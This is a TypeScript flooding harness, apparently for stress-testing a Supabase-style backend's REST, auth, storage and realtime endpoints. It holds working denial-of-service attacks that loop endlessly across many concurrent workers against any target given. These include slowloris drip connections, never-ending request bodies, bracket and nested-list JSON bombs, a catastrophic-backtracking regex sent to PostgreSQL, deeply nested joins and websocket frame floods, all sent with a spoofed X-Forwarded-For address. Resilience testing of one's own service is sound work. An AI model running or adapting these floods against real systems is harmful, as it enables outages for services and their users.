import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { WebSocket } from 'ws';

/** What somebody does who wants to be in everybody's way, and in how many hands. */
interface Target {
  url: string;
  key: string;
  token: string;
}
type Deed = (target: Target) => Promise<unknown>;

const MEGABYTE = 1024 * 1024;
const NETWORK = '198.51.100.1';

const sent =
  (who: 'member' | 'stranger', path: string, body?: string): Deed =>
  async ({ url, key, token }) =>
    (
      await fetch(url + path, {
        headers: {
          apikey: key,
          authorization: `Bearer ${who === 'member' ? token : key}`,
          'content-type': 'application/json',
          'x-forwarded-for': NETWORK,
        },
        ...(body === undefined ? {} : { method: 'POST', body }),
      })
    ).text();

/** A body of which a byte comes every second. */
const dripped: Deed = ({ url, key }) =>
  new Promise<void>((ended) => {
    const { hostname, port } = new URL(url);
    const socket = connect(Number(port), hostname, () => {
      socket.write(
        `POST /rest/v1/analytics_events HTTP/1.1\r\nHost: x\r\napikey: ${key}\r\nContent-Length: 100000\r\n\r\n`,
      );
    });
    const drip = setInterval(() => socket.write(' '), 1_000);
    socket
      .on('error', () => undefined)
      .on('close', () => {
        clearInterval(drip);
        ended();
      });
  });

const event = JSON.stringify({
  event_name: 'page_view',
  page_path: '/',
  metadata: {},
  device: 'x'.repeat(200),
});
const events = (bytes: number) =>
  `[${Array.from({ length: Math.floor(bytes / (event.length + 1)) }, () => event).join(',')}]`;
/** What costs most of a body that becomes objects. */
const lists = (bytes: number) => `[${'[],'.repeat(Math.floor(bytes / 3) - 2)}0]`;

/** Frames over one connection for as long as it is open. */
const frames =
  (bytes: number): Deed =>
  ({ url, key }) =>
    new Promise<void>((ended) => {
      const frame = `["1","1","realtime:square","broadcast",${lists(bytes)}]`;
      const ws = new WebSocket(`${url.replace('http', 'ws')}/realtime/v1/websocket?vsn=2.0.0&apikey=${key}`, {
        headers: { 'x-forwarded-for': NETWORK },
      });
      const send = () => {
        if (ws.readyState === ws.OPEN) ws.send(frame, () => setTimeout(send, 2));
      };
      ws.on('open', send)
        .on('error', () => undefined)
        .on('close', () => setTimeout(ended, 20));
    });

/** A body that goes on for as long as somebody reads it. */
const endless =
  (method: string): Deed =>
  ({ url }) =>
    new Promise<void>((ended) => {
      const { hostname, port } = new URL(url);
      const chunk = Buffer.alloc(MEGABYTE, '[');
      const socket = connect(Number(port), hostname, () => {
        socket.write(
          `${method} /health HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${NETWORK}\r\nContent-Length: 100000000000\r\n\r\n`,
        );
        const more = () => {
          while (!socket.destroyed && socket.write(chunk));
        };
        socket.on('drain', more);
        more();
      });
      socket
        .on('error', () => undefined)
        .on('close', () => ended())
        .resume();
    });
/** Asks PostgreSQL's engine for the same text three times over. */
const HARD = encodeURIComponent('(.*)(.*)(.*)\\1\\2\\3x$');
const EVENTS = '/rest/v1/analytics_events';
const WORDS = '/rest/v1/bench_words';
const SHELVES = '/rest/v1/bench_shelves';

export const FLOODS: Record<string, [hands: number, deed: () => Deed]> = {
  '4 MB of brackets': [4, () => sent('stranger', EVENTS, '['.repeat(4 * MEGABYTE))],
  '1 MB of brackets': [4, () => sent('stranger', EVENTS, '['.repeat(MEGABYTE - 1))],
  '10 MB of empty lists': [
    2,
    () => sent('member', '/rest/v1/rpc/nothing', `{"a":[${'[],'.repeat(3 * MEGABYTE)}0]}`),
  ],
  '40 regular expressions': [40, () => sent('member', `${WORDS}?word=match.${HARD}`)],
  '40 open patterns': [40, () => sent('member', `${WORDS}?word=ilike.*zzz*`)],
  '40 sorts of everything': [40, () => sent('member', `${WORDS}?order=word.desc&limit=1`)],
  '40 lists within lists': [
    40,
    () => sent('member', `${SHELVES}?id=eq.1&select=*,bench_books(*,bench_shelves(*,bench_books(*)))`),
  ],
  '64 rows at once': [64, () => sent('member', `${WORDS}?id=eq.7`)],
  '6 × 900 KB of events': [6, () => sent('stranger', EVENTS, events(900 * 1024))],
  '30 single events': [30, () => sent('stranger', EVENTS, event)],
  '64 × who am I': [64, () => sent('member', '/auth/v1/user')],
  '64 calls of a function': [64, () => sent('member', '/functions/v1/grade', '{}')],
  '64 lists of files': [64, () => sent('member', '/storage/v1/object/list/avatars', '{"prefix":""}')],
  '64 pictures': [64, () => sent('stranger', '/storage/v1/object/public/avatars/none.png')],
  '64 lists of meanings': [64, () => sent('stranger', '/meanings/list.json')],
  '64 pages': [64, () => sent('stranger', '/')],
  '4 bodies without an end': [4, () => endless('POST')],
  '4 of them unasked for': [4, () => endless('GET')],
  'frames of 60 KB': [8, () => frames(60 * 1024)],
  'frames of 1 MB': [4, () => frames(MEGABYTE - 100)],
  'frames of 2 KB': [40, () => frames(2 * 1024)],
  '1 MB of lists for nobody': [4, () => sent('stranger', '/', lists(MEGABYTE))],
  '1 MB of lists to channels': [4, () => sent('stranger', '/realtime/v1/api/broadcast', lists(MEGABYTE))],
  '1 MB of lists to files': [4, () => sent('stranger', '/storage/v1/object/list/avatars', lists(MEGABYTE))],
  '300 slow bodies': [300, () => dripped],
};

/** Goes on until it is ended. */
if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const { name, ...target } = JSON.parse(process.argv[2] ?? '') as Target & { name: string };
  const [hands = 0, deed] = FLOODS[name] ?? [];
  const one = deed?.();
  console.log('begun');
  await Promise.all(
    Array.from({ length: hands }, async () => {
      for (;;) await one?.(target).catch(() => sleep(20));
    }),
  );
}
